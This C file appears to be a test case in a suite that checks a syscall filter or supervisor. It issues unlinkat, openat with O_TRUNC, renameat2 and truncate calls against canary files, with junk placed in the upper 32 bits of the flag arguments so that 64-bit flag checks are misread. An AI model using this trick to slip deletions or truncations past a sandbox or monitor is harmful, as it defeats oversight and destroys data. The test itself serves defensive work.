// attack: kernel: garbage in the upper 32 bits of flag arguments (unlinkat 1<<32 and 1<<32|AT_REMOVEDIR, openat O_WRONLY|O_TRUNC|0xdead<<32, renameat2 1<<32), which the kernel truncates to int
// stopped by: sign-off(delete), sign-off(rename), sign-off(truncate)
// A filter or a supervisor that compared the full 64-bit register (flags == 0, flags & O_TRUNC as a
// 64-bit equality) would treat these calls as something else than the kernel runs.
#define _GNU_SOURCE
#include "attack.h"

// The canary's first empty subdirectory, if any.
static int canary_empty_dir(const char *canary, char *out, size_t len) {
    DIR *d = opendir(canary);
    struct dirent *e;
    if (!d) return 0;
    while ((e = readdir(d))) {
        if (e->d_type != DT_DIR || e->d_name[0] == '.') continue;
        snprintf(out, len, "%s/%s", canary, e->d_name);
        DIR *s = opendir(out);
        int entries = 0;
        struct dirent *x;
        while (s && (x = readdir(s))) entries += x->d_name[0] != '.';
        if (s) closedir(s);
        if (entries == 0) { closedir(d); return 1; }
    }
    closedir(d);
    return 0;
}

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    char f[4][256], a[4096], b[4096], c[4096], d[4096], dir[4096];
    if (canary_files(canary, f, 4) < 3) { fprintf(stderr, "fewer than 3 canary files\n"); return 2; }
    snprintf(a, sizeof a, "%s/%s", canary, f[0]);
    snprintf(b, sizeof b, "%s/%s", canary, f[1]);
    snprintf(c, sizeof c, "%s/%s", canary, f[2]);
    snprintf(d, sizeof d, "%s/renamed-by-high-bits", canary);
    long r;

    errno = 0; r = syscall(SYS_unlinkat, AT_FDCWD, a, 0x100000000L);
    show("unlinkat(canary file 1, flags=1<<32)", r);
    errno = 0; r = syscall(SYS_openat, AT_FDCWD, b, 0xdead00000000L | O_WRONLY | O_TRUNC, 0);
    show("openat(canary file 2, O_WRONLY|O_TRUNC|0xdead<<32)", r);
    if (r >= 0) close((int)r);
    errno = 0; r = syscall(SYS_renameat2, AT_FDCWD, c, AT_FDCWD, d, 0x100000000L);
    show("renameat2(canary file 3 -> renamed-by-high-bits, flags=1<<32)", r);
    errno = 0; r = syscall(SYS_truncate, a, 0x100000000L);
    show("truncate(canary file 1, 1<<32) (if unlink failed)", r);
    if (canary_empty_dir(canary, dir, sizeof dir)) {
        errno = 0; r = syscall(SYS_unlinkat, AT_FDCWD, dir, 0x100000000L | AT_REMOVEDIR);
        show("unlinkat(empty canary dir, flags=1<<32|AT_REMOVEDIR)", r);
    }
    return 0;
}
